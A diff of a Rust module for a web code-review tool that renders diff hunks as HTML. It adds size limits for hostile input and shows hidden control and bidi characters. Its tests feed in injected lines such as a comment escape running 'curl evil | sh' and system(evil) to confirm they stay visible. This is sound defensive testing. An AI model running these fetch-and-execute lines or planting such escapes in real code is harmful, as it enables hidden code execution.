@@ -1,13 +1,14 @@
 //! The lines of a hunk as rows of a table: side by side or below each other, with their colours, and with what differs within a line
-//! marked. A row knows its numbers alone: the script reads from them which line is meant.
+//! emphasized. A row has only its numbers: the script reads from them which line is meant. Nothing of a line is removed, and a
+//! limit that is reached is shown.
 
 use std::cell::Cell;
 use std::ops::Range;
 
 use maud::{Markup, html};
 use model::code::Language;
-use model::codex::printable;
 use model::diff::{DiffLine, DiffLineKind, Hunk};
+use model::visible::Visible;
 use similar::{ChangeTag, TextDiff};
 
 use super::View;
@@ -17,27 +18,64 @@ use crate::pages::colour;
 const WORDS_LIMIT_BYTES: usize = 1_000;
 
 /// How many pairs of lines are compared word by word for one answer.
-const MOST_PAIRS: u32 = 3_000;
+const MOST_PAIRS: usize = 3_000;
+
+/// How many bytes are compared word by word for one answer: comparing takes time with the square of a line's length.
+const WORDS_BYTES: usize = 200_000;
+
+/// A line that differs in more places than this is not emphasized.
+const MOST_PLACES: usize = 50;
+
+/// How many bytes of lines an answer shows.
+const SHOWN_BYTES: usize = 2_000_000;
+
+/// How many bytes of lines an answer has colours for.
+const COLOURED_BYTES: usize = 400_000;
+
+/// A longer line is cut.
+const LINE_BYTES: usize = 10_000;
 
 /// How much may still be shown in an answer.
 pub(super) struct Left {
     lines: Cell<usize>,
-    pairs: Cell<u32>,
+    bytes: Cell<usize>,
+    coloured: Cell<usize>,
+    pairs: Cell<usize>,
+    words: Cell<usize>,
+}
+
+/// Takes an amount if there is as much left.
+fn take(left: &Cell<usize>, amount: usize) -> bool {
+    let rest = left.get().checked_sub(amount);
+    left.set(rest.unwrap_or(left.get()));
+    rest.is_some()
 }
 
 impl Left {
     pub(super) fn new(lines: usize) -> Self {
-        Self { lines: Cell::new(lines), pairs: Cell::new(MOST_PAIRS) }
+        let cell = Cell::new;
+        Self {
+            lines: cell(lines),
+            bytes: cell(SHOWN_BYTES),
+            coloured: cell(COLOURED_BYTES),
+            pairs: cell(MOST_PAIRS),
+            words: cell(WORDS_BYTES),
+        }
     }
 
     pub(super) fn is_nothing(&self) -> bool {
-        self.lines.get() == 0
+        self.lines.get() == 0 || self.bytes.get() == 0
     }
 
-    fn pair(&self) -> bool {
-        let left = self.pairs.get();
-        self.pairs.set(left.saturating_sub(1));
-        left > 0
+    /// A line as it is shown, if there is room for it.
+    fn line(&self, line: &DiffLine) -> Option<Visible> {
+        if self.is_nothing() {
+            return None;
+        }
+        let shown = line.visible(LINE_BYTES);
+        self.lines.set(self.lines.get() - 1);
+        self.bytes.set(self.bytes.get().saturating_sub(shown.text().len()));
+        Some(shown)
     }
 }
 
@@ -52,9 +90,7 @@ struct Line {
 type Row = (Option<Line>, Option<Line>);
 
 pub(super) fn hunk_part(hunk: &Hunk, language: Option<&'static Language>, sides: View, left: &Left) -> Markup {
-    let shown = hunk.lines.len().min(left.lines.get());
-    left.lines.set(left.lines.get() - shown);
-    let rows = rows(hunk, language, shown, left);
+    let rows = rows(hunk, language, left);
     html! {
         @match sides {
             View::Split => @for (old, new) in &rows { (split_row(old.as_ref(), new.as_ref())) },
@@ -68,41 +104,56 @@ fn is_context((_, new): &Row) -> bool {
 }
 
 /// Lines that were removed stand beside those that came in their place. Each side is read by itself, from the hunk's beginning.
-fn rows(hunk: &Hunk, language: Option<&'static Language>, shown: usize, left: &Left) -> Vec<Row> {
-    let texts: Vec<_> = hunk.lines[..shown].iter().map(|line| printable(&line.text)).collect();
-    let lines: Vec<(&DiffLine, &str)> = hunk.lines.iter().zip(texts.iter().map(AsRef::as_ref)).collect();
-    let side = |other: DiffLineKind| lines.iter().filter(move |(line, _)| line.kind != other).map(|(_, text)| *text);
-    let read = |other| language.map(|language| colour::colours(language, side(other))).unwrap_or_default();
+fn rows(hunk: &Hunk, language: Option<&'static Language>, left: &Left) -> Vec<Row> {
+    let texts: Vec<_> = hunk.lines.iter().map_while(|line| left.line(line)).collect();
+    let lines: Vec<(&DiffLine, &Visible)> = hunk.lines.iter().zip(&texts).collect();
+    let side = |other: DiffLineKind| lines.iter().filter(move |(line, _)| line.kind != other).map(|(_, text)| text.text());
+    let read = |other| match language {
+        Some(language) if take(&left.coloured, side(other).map(str::len).sum()) => colour::colours(language, side(other)),
+        Some(_) | None => vec![],
+    };
     let (olds, news) = (read(DiffLineKind::Added), read(DiffLineKind::Removed));
     // How many lines of each side are behind us.
     let (mut old, mut new) = (0, 0);
-    let old_line = |n: usize, kind, text: &str, marked: &[Range<usize>]| {
-        Some(Line { number: hunk.old_start + n as u64, kind, text: colour::line(text, olds.get(n), marked) })
+    let markup = |line: &DiffLine, text: &Visible, pieces, places: &[Range<usize>]| {
+        html! {
+            (colour::visible_line(text, pieces, places))
+            @if line.no_newline { span.line-end { " no newline at the end of the file" } }
+        }
     };
-    let new_line = |n: usize, kind, text: &str, marked: &[Range<usize>]| {
-        Some(Line { number: hunk.new_start + n as u64, kind, text: colour::line(text, news.get(n), marked) })
+    let old_line = |n: usize, line: &DiffLine, text: &Visible, places: &[Range<usize>]| {
+        Some(Line {
+            number: hunk.old_start.saturating_add(n as u64),
+            kind: line.kind,
+            text: markup(line, text, olds.get(n), places),
+        })
+    };
+    let new_line = |n: usize, line: &DiffLine, text: &Visible, places: &[Range<usize>]| {
+        Some(Line {
+            number: hunk.new_start.saturating_add(n as u64),
+            kind: line.kind,
+            text: markup(line, text, news.get(n), places),
+        })
     };
     let mut rows = vec![];
     for block in lines.chunk_by(|a, b| (a.0.kind == DiffLineKind::Context) == (b.0.kind == DiffLineKind::Context)) {
         if block[0].0.kind == DiffLineKind::Context {
             for (line, text) in block {
-                rows.push((old_line(old, line.kind, text, &[]), new_line(new, line.kind, text, &[])));
+                rows.push((old_line(old, line, text, &[]), new_line(new, line, text, &[])));
                 (old, new) = (old + 1, new + 1);
             }
             continue;
         }
-        let of = |kind: DiffLineKind| {
-            block.iter().filter(move |(line, _)| line.kind == kind).map(|(_, text)| *text).collect::<Vec<_>>()
-        };
+        let of = |kind: DiffLineKind| block.iter().filter(move |(line, _)| line.kind == kind).copied().collect::<Vec<_>>();
         let (removed, added) = (of(DiffLineKind::Removed), of(DiffLineKind::Added));
         for n in 0..removed.len().max(added.len()) {
             let (was, is) = (removed.get(n), added.get(n));
             let (gone, came) = match (was, is) {
-                (Some(was), Some(is)) if left.pair() => words(was, is),
+                (Some((_, was)), Some((_, is))) => words(was.text(), is.text(), left),
                 _ => (vec![], vec![]),
             };
-            let was = was.and_then(|text| old_line(old + n, DiffLineKind::Removed, text, &gone));
-            let is = is.and_then(|text| new_line(new + n, DiffLineKind::Added, text, &came));
+            let was = was.and_then(|(line, text)| old_line(old + n, line, text, &gone));
+            let is = is.and_then(|(line, text)| new_line(new + n, line, text, &came));
             rows.push((was, is));
         }
         (old, new) = (old + removed.len(), new + added.len());
@@ -111,8 +162,9 @@ fn rows(hunk: &Hunk, language: Option<&'static Language>, shown: usize, left: &L
 }
 
 /// What differs between two lines, as long as they have something in common.
-fn words(old: &str, new: &str) -> (Vec<Range<usize>>, Vec<Range<usize>>) {
-    if old.len().max(new.len()) > WORDS_LIMIT_BYTES {
+fn words(old: &str, new: &str, left: &Left) -> (Vec<Range<usize>>, Vec<Range<usize>>) {
+    let is_long = old.len().max(new.len()) > WORDS_LIMIT_BYTES;
+    if is_long || !take(&left.words, old.len() + new.len()) || !take(&left.pairs, 1) {
         return (vec![], vec![]);
     }
     let diff = TextDiff::from_words(old, new);
@@ -133,7 +185,8 @@ fn words(old: &str, new: &str) -> (Vec<Range<usize>>, Vec<Range<usize>>) {
         }
         marked
     };
-    (side(ChangeTag::Delete), side(ChangeTag::Insert))
+    let (gone, came) = (side(ChangeTag::Delete), side(ChangeTag::Insert));
+    if gone.len().max(came.len()) > MOST_PLACES { (vec![], vec![]) } else { (gone, came) }
 }
 
 fn class(kind: DiffLineKind) -> &'static str {
@@ -236,5 +289,63 @@ mod tests {
         let html =
             hunk_part(&Diff::parse(patch.as_bytes()).files[0].hunks[0], None, View::Split, &Left::new(10_000)).into_string();
         assert_eq!(html.matches("<mark>").count(), 6_000);
+    }
+
+    #[test]
+    fn nothing_of_a_line_is_hidden_in_any_language() {
+        let hidden = [
+            "\u{1b}]", "\u{1b}P", "\u{1b}X", "\u{1b}^", "\u{1b}_", "\u{90}", "\u{98}", "\u{9d}", "\u{9e}", "\u{9f}", "\u{202e}",
+            "\0",
+        ];
+        for (name, before, evil, after) in [
+            ("run.sh", ": '", "'; curl evil | sh; : '", "' done"),
+            ("run.c", "/* ", "*/ system(evil); /*", " */"),
+            ("run.js", "// ", "\u{2028}evil()", ""),
+        ] {
+            for opener in hidden {
+                for end in ["\u{7}", "\u{9c}", "\u{1b}\\", ""] {
+                    let patch = format!("@@ -1 +1 @@\n-x\n+{before}{opener}{evil}{end}{after}\n");
+                    let html = shown(name, &patch, View::Split);
+                    let text: String = html.split('<').map(|part| part.split_once('>').map_or(part, |(_, text)| text)).collect();
+                    for word in evil.split(['\'', '\u{2028}', ' ']).filter(|word| !word.is_empty()) {
+                        assert!(text.contains(word), "{opener:?} {word}: {html}");
+                    }
+                    assert!(html.contains("class=\"unseen\"") && !html.contains(opener), "{html}");
+                    assert!(!html.chars().any(model::visible::is_invisible), "{html:?}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn line_ends_and_their_absence_are_shown() {
+        let html = shown("f", "@@ -1 +1 @@\n-x\r\n+x\n\\ No newline at end of file\n", View::Split);
+        assert!(
+            html.contains("x</mark><mark><span class=\"line-end\">␍</span>")
+                || html.contains("<span class=\"line-end\">␍</span>")
+        );
+        assert!(html.contains("no newline at the end of the file") && !html.contains("unseen"), "{html}");
+    }
+
+    #[test]
+    fn a_long_line_is_cut_and_says_so() {
+        let html = shown("f", &format!("@@ -0,0 +1 @@\n+{}\n", "x".repeat(50_000)), View::Split);
+        assert!(html.len() < 12_000 && html.contains("<span class=\"cut\">… 39.0 KiB more not shown</span>"), "{}", html.len());
+    }
+
+    #[test]
+    fn words_and_colours_of_hostile_lines_are_bounded() {
+        let line = |letter: &str| format!("{letter} 1").repeat(300);
+        let lines = |sign: &str, letter: &str| format!("{sign}{}\n", line(letter)).repeat(3_000);
+        let patch = format!(
+            "diff --git a/f.rs b/f.rs\n--- a/f.rs\n+++ b/f.rs\n@@ -1,3000 +1,3000 @@\n{}{}",
+            lines("-", "a"),
+            lines("+", "b")
+        );
+        let left = Left::new(10_000);
+        let diff = Diff::parse(patch.as_bytes());
+        let html = hunk_part(&diff.files[0].hunks[0], Language::of_file("f.rs"), View::Split, &left).into_string();
+        assert!(html.len() < 4_000_000, "{}", html.len());
+        assert!(left.words.get() > 0 && left.is_nothing());
     }
 }
